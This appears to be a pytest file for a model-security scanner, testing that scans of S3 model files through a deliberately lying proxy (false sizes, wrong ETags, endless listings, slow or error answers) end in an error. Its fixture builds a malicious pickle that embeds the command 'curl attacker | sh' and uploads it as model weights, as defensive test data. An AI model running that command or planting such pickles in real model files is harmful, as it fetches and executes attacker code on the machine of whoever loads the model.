"""s3:// scans against a broken or compromised S3 endpoint (issue 10, items 16-18).

moto's S3 server sits behind :class:`HostileS3Proxy`, which lies in one way per test; the
scan goes through the real boto3 client. Before the fix each scan was ALLOWED or never
ended.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from hostile_s3 import HostileS3Proxy
from model_fixtures import malicious_pickle
from source_helpers import outcome, reasons, s3_client, s3_config, s3_scan

from modelsec.policy import Outcome

MIB = 1 << 20


@pytest.fixture
def proxy(moto_endpoint: str) -> Iterator[HostileS3Proxy]:
    server = HostileS3Proxy(moto_endpoint).start()
    try:
        yield server
    finally:
        server.stop()


@pytest.fixture
def evil(moto_endpoint: str, bucket: str) -> bytes:
    """A prefix holding a config and a malicious pickle under a name that implies nothing."""
    payload = malicious_pickle("curl attacker | sh")
    s3 = s3_client(moto_endpoint)
    s3.put_object(Bucket=bucket, Key="m/config.json", Body=b'{"a": 1}')
    s3.put_object(Bucket=bucket, Key="m/weights", Body=payload)
    return payload


# --- 16: what the server says must agree --------------------------------------------------


def test_object_listed_and_headed_as_empty(proxy: HostileS3Proxy, bucket: str, evil: bytes) -> None:
    """Listing and HEAD agree on size 0; the bytes served are the pickle."""
    proxy.listed_sizes = proxy.headed_sizes = {"m/weights": 0}
    scanned = s3_scan(f"s3://{bucket}/m/", s3_config(proxy.url))
    found = reasons(scanned, "MS-SRC-009")
    assert found and ("listed as 0 bytes" in found[0] or f"size as '{len(evil)}'" in found[0]), found
    assert outcome(scanned) == Outcome.ERROR


def test_object_listed_smaller_than_it_is(proxy: HostileS3Proxy, bucket: str, evil: bytes) -> None:
    proxy.listed_sizes = proxy.headed_sizes = {"m/weights": 3}
    scanned = s3_scan(f"s3://{bucket}/m/", s3_config(proxy.url))
    found = reasons(scanned, "MS-SRC-009")
    assert found and f"size as {len(evil)} (Content-Range), the listing as 3" in found[0], found
    assert outcome(scanned) == Outcome.ERROR


def test_listing_and_head_must_agree(proxy: HostileS3Proxy, bucket: str, evil: bytes) -> None:
    """Only the listing lies: the per-object HEAD contradicts it."""
    proxy.listed_sizes = {"m/weights": 0}
    scanned = s3_scan(f"s3://{bucket}/m/", s3_config(proxy.url))
    found = reasons(scanned, "MS-SRC-009")
    assert found and "(HEAD)" in found[0] and "the listing as 0" in found[0], found
    assert outcome(scanned) == Outcome.ERROR


def test_object_answer_with_another_etag(proxy: HostileS3Proxy, bucket: str, evil: bytes) -> None:
    proxy.object_etag = "0" * 32
    scanned = s3_scan(f"s3://{bucket}/m/", s3_config(proxy.url))
    found = reasons(scanned, "MS-SRC-009")
    assert found and "ETag '00000000000000000000000000000000'" in found[0], found
    assert outcome(scanned) == Outcome.ERROR


# --- 17: bounded listings and answers --------------------------------------------------------


def test_listing_of_empty_truncated_pages_ends(proxy: HostileS3Proxy, bucket: str, evil: bytes) -> None:
    proxy.empty_truncated_pages = True
    scanned = s3_scan(f"s3://{bucket}/m/", s3_config(proxy.url))
    found = reasons(scanned, "MS-SRC-016")
    assert found and "more than 1000 listing pages (maxListPages)" in found[0]
    assert outcome(scanned) == Outcome.ERROR
    assert proxy.list_requests == 1000


def test_listing_answer_larger_than_the_bound(proxy: HostileS3Proxy, bucket: str, evil: bytes) -> None:
    proxy.listing_padding = 20 * MIB
    scanned = s3_scan(f"s3://{bucket}/m/", s3_config(proxy.url))
    found = reasons(scanned, "MS-SRC-016")
    assert found and f"s3://{bucket}/m/ (listing page 1): S3 ListObjectsV2 answer larger than" in found[0]
    assert "maxResponseBytes" in found[0]
    assert outcome(scanned) == Outcome.ERROR


def test_long_version_listing_is_refused_not_cut_short(
    moto_endpoint: str, bucket: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from modelsec.sources import remote_scan

    s3 = s3_client(moto_endpoint)
    s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Enabled"})
    for n in range(3):
        s3.put_object(Bucket=bucket, Key="v/a.json", Body=b'{"n": %d}' % n)
        s3.put_object(Bucket=bucket, Key="v/b.json", Body=b'{"n": %d}' % n)
    monkeypatch.setattr(remote_scan, "MAX_FILES", 4)  # 2 objects, 6 versions listed
    scanned = s3_scan(f"s3://{bucket}/v/", s3_config(moto_endpoint))
    found = reasons(scanned, "MS-SRC-014")
    assert found and "more than 4 entries listed" in found[0]
    assert outcome(scanned) == Outcome.ERROR


# --- 18: deadlines ---------------------------------------------------------------------------


def test_listing_that_trickles(proxy: HostileS3Proxy, bucket: str, evil: bytes) -> None:
    proxy.trickle = "list-type"
    scanned = s3_scan(f"s3://{bucket}/m/", s3_config(proxy.url, requestDeadline=0.5, maxRetries=1))
    found = reasons(scanned, "MS-SRC-007")
    assert found and "no complete answer within 0.5s (requestDeadline)" in found[0], (
        scanned.report.all_incompletes()
    )
    assert outcome(scanned) == Outcome.ERROR


def test_scan_deadline_bounds_the_retries(proxy: HostileS3Proxy, bucket: str, evil: bytes) -> None:
    proxy.trickle = "list-type"
    config = s3_config(proxy.url, requestDeadline=0.4, scanDeadline=1.0, maxRetries=20)
    scanned = s3_scan(f"s3://{bucket}/m/", config)
    found = reasons(scanned, "MS-SRC-015")
    assert found and "scanDeadline" in found[0], scanned.report.all_incompletes()
    assert outcome(scanned) == Outcome.ERROR


# --- an HTTP status means what the shared table (modelsec.sources.status) says ------------


@pytest.mark.parametrize(
    ("status", "code", "expected", "words"),
    [
        (401, "", "MS-SRC-004", "answered 401"),  # no S3 code names it: the status decides
        (404, "NoSuchUpload", "MS-SRC-008", "answered NoSuchUpload"),
        (403, "", "MS-SRC-004", "access to bucket"),
        (416, "", "MS-SRC-009", "object shorter than listed"),
        (400, "MalformedXML", "MS-SRC-012", "answered MalformedXML"),
    ],
)
def test_a_final_status_is_read_through_the_shared_table(
    proxy: HostileS3Proxy, bucket: str, evil: bytes, status: int, code: str, expected: str, words: str
) -> None:
    proxy.error_answers = {f"GET /{bucket}/m/weights": (status, code)}
    scanned = s3_scan(f"s3://{bucket}/m/", s3_config(proxy.url, maxRetries=2))
    found = reasons(scanned, expected)
    assert found and words in found[0], scanned.report.all_incompletes()
    assert proxy.statuses.count(status) == 1  # final: not retried
    assert outcome(scanned) == Outcome.ERROR


@pytest.mark.parametrize(
    ("status", "code", "expected"),
    [(408, "RequestTimeout", "MS-SRC-012"), (500, "InternalError", "MS-SRC-012"), (503, "", "MS-SRC-006")],
)
def test_a_transient_status_is_retried_then_reported(
    proxy: HostileS3Proxy, bucket: str, evil: bytes, status: int, code: str, expected: str
) -> None:
    proxy.error_answers = {f"GET /{bucket}/m/weights": (status, code)}
    scanned = s3_scan(f"s3://{bucket}/m/", s3_config(proxy.url, maxRetries=2))
    assert reasons(scanned, expected), scanned.report.all_incompletes()
    assert proxy.statuses.count(status) == 3  # the first attempt and two retries
    assert outcome(scanned) == Outcome.ERROR
